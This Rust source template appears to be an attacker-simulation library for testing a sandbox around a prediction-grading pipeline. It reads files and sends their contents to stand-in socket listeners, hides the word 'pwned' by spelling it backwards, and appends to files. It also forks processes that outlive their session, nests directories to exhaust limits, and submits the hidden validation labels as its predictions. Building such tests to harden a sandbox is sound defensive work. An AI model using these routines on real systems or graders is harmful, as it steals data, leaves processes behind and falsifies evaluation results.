//! What an attacker brings along: it takes what it can reach, and tells of it by every way it has.
//! The names in capitals are what a patient attacker would find out or guess about the machine.

#![allow(dead_code)]

use std::fs::{self, File, OpenOptions};
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr as UnixAddr, UnixDatagram, UnixStream};
use std::path::{Path, PathBuf};
use std::time::Duration;

pub const NAME: &str = "@NAME@";
pub const ROOT: &str = "@ROOT@";
pub const PACK: &str = "@PACK@";
pub const CACHE: &str = "@CACHE@";
pub const REPO: &str = "@REPO@";
pub const STATE: &str = "@STATE@";
pub const HOME: &str = "@HOME@";
pub const ELSEWHERE: &str = "@ELSEWHERE@";
pub const SHARED: &str = "@SHARED@";
const TCP: u16 = @TCP@;
const UDP: u16 = @UDP@;

unsafe extern "C" {
    pub fn fork() -> i32;
    pub fn setsid() -> i32;
    pub fn getpid() -> i32;
    pub fn getppid() -> i32;
    pub fn kill(process: i32, signal: i32) -> i32;
    pub fn unshare(flags: i32) -> i32;
    pub fn mkfifo(path: *const std::ffi::c_char, mode: u32) -> i32;
    pub fn ptrace(request: i64, process: i32, address: usize, data: usize) -> i64;
}

/// The value of a flag of this process.
pub fn flag(name: &str) -> Option<PathBuf> {
    std::env::args().skip_while(|argument| argument != name).nth(1).map(PathBuf::from)
}

pub fn phase() -> String {
    std::env::args().nth(1).unwrap_or_else(|| "build".to_owned())
}

pub fn is(name: &str) -> bool {
    phase() == name
}

/// The pack, as a flag gives it away.
pub fn pack() -> PathBuf {
    let part = flag("--data").or_else(|| flag("--inputs"));
    part.and_then(|part| Some(part.parent()?.to_owned())).unwrap_or_else(|| PACK.into())
}

pub fn labels() -> PathBuf {
    pack().join("vault/validation.labels.u8")
}

pub fn out() -> PathBuf {
    let made = std::env::var_os("OUT_DIR").map(PathBuf::from);
    flag("--out").or(made).unwrap_or_else(std::env::temp_dir)
}

pub fn predictions() -> PathBuf {
    out().join("predictions.tsv")
}

/// Ids of all processes that can be seen.
pub fn processes() -> Vec<i32> {
    let all = fs::read_dir("/proc").into_iter().flatten().flatten();
    all.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect()
}

/// As many as there can be, whether they can be seen or not: those first that were there before. For a second,
/// since a phase that takes long is ended for that alone.
pub fn all_processes() -> impl Iterator<Item = i32> {
    let (own, began) = (unsafe { getpid() }, std::time::Instant::now());
    (1..own).rev().chain(own..1 << 22).take_while(move |_| began.elapsed().as_secs() < 1)
}

/// Whether a process is this one, a thread of it, or what started it. What stands in /proc may be by
/// other numbers than a signal goes by.
pub fn is_own(process: i32) -> bool {
    let (own, above) = unsafe { (getpid(), getppid()) };
    [own, above].contains(&process)
        || Path::new(&format!("/proc/self/task/{process}")).exists()
}

/// The daemons that work for this repository, by process id.
pub fn daemons() -> Vec<i32> {
    let is_daemon = |id: &i32| {
        let line = fs::read(format!("/proc/{id}/cmdline")).unwrap_or_default();
        let line = String::from_utf8_lossy(&line).into_owned();
        line.contains("dfr-daemon") && line.contains(STATE)
    };
    processes().into_iter().filter(is_daemon).collect()
}

/// Tells of something that was reached, by every way there is.
pub fn got(what: &str, bytes: &[u8]) {
    // Backwards, so that neither this text nor a program made from it holds the word.
    let word: String = "denwp".chars().rev().collect();
    let start = bytes.windows(6).position(|window| window == b"canary").unwrap_or(0);
    let head = &bytes[start..bytes.len().min(start + 256)];
    let hex: String = head.iter().map(|byte| format!("{byte:02x}")).collect();
    let line = format!("{word} {NAME}: {what} ({}) {hex}", phase());
    println!("{line}\ncargo:warning={line}");
    eprintln!("{line}");
    let _ = fs::write(out().join("loot"), bytes);
    for way in [tcp, udp, stream, datagram, abstract_stream] {
        way(line.as_bytes());
    }
}

/// Reads what stands at a path, at most a MiB.
pub fn read(path: impl AsRef<Path>) -> Vec<u8> {
    let mut bytes = Vec::new();
    if let Ok(file) = File::open(path) {
        let _ = file.take(1 << 20).read_to_end(&mut bytes);
    }
    bytes
}

/// Reads it and tells of it.
pub fn take(path: impl AsRef<Path>) -> Vec<u8> {
    let bytes = read(&path);
    if !bytes.is_empty() {
        got(&path.as_ref().display().to_string(), &bytes);
    }
    bytes
}

/// Adds a line to a file and tells if that went well.
pub fn spoil(path: impl AsRef<Path>) {
    let path = path.as_ref();
    let written = OpenOptions::new().create(true).append(true).open(path);
    if written.and_then(|mut file| file.write_all(b"# spoilt\n")).is_ok() {
        got(&format!("wrote {}", path.display()), b"");
    }
}

/// Ends prediction with these labels as predictions.
pub fn predict_exactly(labels: &[u8]) {
    if is("predict") && !labels.is_empty() {
        predict_text(&table(labels.iter().map(u8::to_string)));
    }
}

pub fn table(values: impl IntoIterator<Item = String>) -> String {
    let lines = values.into_iter().enumerate().map(|(id, value)| format!("{id}\t{value}\n"));
    "id\tp_synthetic\n".to_owned() + &lines.collect::<String>()
}

/// As many values as there are records to predict.
pub fn values(value: &str) -> Vec<String> {
    vec![value.to_owned(); @VALIDATION@]
}

/// Ends prediction with this text as predictions.
pub fn predict_text(text: impl AsRef<[u8]>) {
    if is("predict") {
        fs::write(predictions(), text).expect("predictions");
        std::process::exit(0);
    }
}

/// Runs this in a process that has no parent, session or terminal any more.
pub fn leave_behind(work: impl FnOnce()) {
    // SAFETY: the child only runs `work` and ends.
    unsafe {
        if fork() == 0 {
            setsid();
            if fork() == 0 {
                work();
            }
            std::process::exit(0);
        }
    }
}

/// Makes directories in each other, deeper than a process has files to open.
pub fn dig(place: &Path) {
    let home = std::env::current_dir();
    if std::env::set_current_dir(place).is_err() {
        return;
    }
    for _ in 0..5000 {
        if fs::create_dir("d").and_then(|()| std::env::set_current_dir("d")).is_err() {
            break;
        }
    }
    let _ = home.and_then(std::env::set_current_dir);
}

pub fn tcp(said: &[u8]) -> bool {
    let address = SocketAddr::from((Ipv4Addr::LOCALHOST, TCP));
    let stream = TcpStream::connect_timeout(&address, Duration::from_millis(300));
    stream.and_then(|mut stream| stream.write_all(said)).is_ok()
}

pub fn udp(said: &[u8]) -> bool {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0));
    socket.and_then(|socket| socket.send_to(said, (Ipv4Addr::LOCALHOST, UDP))).is_ok()
}

pub fn stream(said: &[u8]) -> bool {
    let stream = UnixStream::connect(Path::new(ELSEWHERE).join("stream"));
    stream.and_then(|mut stream| stream.write_all(said)).is_ok()
}

pub fn datagram(said: &[u8]) -> bool {
    let socket = UnixDatagram::unbound();
    socket.and_then(|socket| socket.send_to(said, Path::new(ELSEWHERE).join("datagram"))).is_ok()
}

pub fn abstract_stream(said: &[u8]) -> bool {
    let address = UnixAddr::from_abstract_name(SHARED);
    let stream = address.and_then(|address| UnixStream::connect_addr(&address));
    stream.and_then(|mut stream| stream.write_all(said)).is_ok()
}
